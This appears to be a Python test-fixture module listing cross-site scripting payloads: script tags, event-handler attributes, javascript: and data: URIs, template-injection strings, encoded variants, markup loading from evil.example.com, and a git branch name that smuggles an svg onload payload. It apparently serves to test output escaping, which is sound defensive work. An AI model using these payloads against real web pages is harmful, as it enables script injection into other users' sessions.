"""Texts that would run as script wherever a page took them for markup."""

from __future__ import annotations

_CALLS = ("alert(1)", "confirm`1`", "prompt(document.domain)", "window.opened=1")
_MARKUP = (
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "</script><script>{}</script>",
    "<img src=x onerror={}>",
    "<img src=x onerror='{}'//",
    '"><img src=x onerror={}>',
    "'><img src=x onerror={}>",
    "</ol></section></main><img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{}'><text y=9>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror={}>'></noscript>",
    "<template><img src=x onerror={}></template><img src=x onerror={}>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<iframe src='javascript:{}'></iframe>",
    "<iframe src='data:text/html,<script>{}</script>'></iframe>",
    "<object data='javascript:{}'></object>",
    "<embed src='data:image/svg+xml,<svg onload={}>'>",
    "<a href='javascript:{}' autofocus onfocus={}>x</a>",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<body onload={}>",
    "<style>@import 'http://evil.example.com/{}';</style>",
    "<link rel=stylesheet href=http://evil.example.com/{}>",
    "<link rel=prefetch href=http://evil.example.com/{}>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href='http://evil.example.com/'><script src=x></script>{}",
    "<img src=http://evil.example.com/{}>",
    "<form action=javascript:{}><button autofocus>x</button></form>",
    "<button form=x formaction=javascript:{}>x</button>",
    "<marquee onstart={}>",
    "<isindex type=image src=x onerror={}>",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "{{{{constructor.constructor('{}')()}}}}",
    "{{% raw %}}{{{{ {} }}}}",
    "${{{}}}",
    "[x](javascript:{})",
    "![x](http://evil.example.com/{}.png)",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;img src=x onerror={}&#62;",
    "\\x3cscript\\x3e{}\\x3c/script\\x3e",
    "\\u003cimg src=x onerror={}\\u003e",
    "%3Cscript%3E{}%3C/script%3E",
    "<scr\x00ipt>{}</scr\x00ipt>",
    "\u2028{}\u2029",
    "data: {}\n\nevent: end\ndata: {{}}",
)
PAYLOADS = tuple(
    markup.replace("{}", call).replace("{{", "{").replace("}}", "}") for markup in _MARKUP for call in _CALLS
)
# What git takes as the name of a branch: no spaces.
BRANCH = '"><svg/onload=alert(1)>'
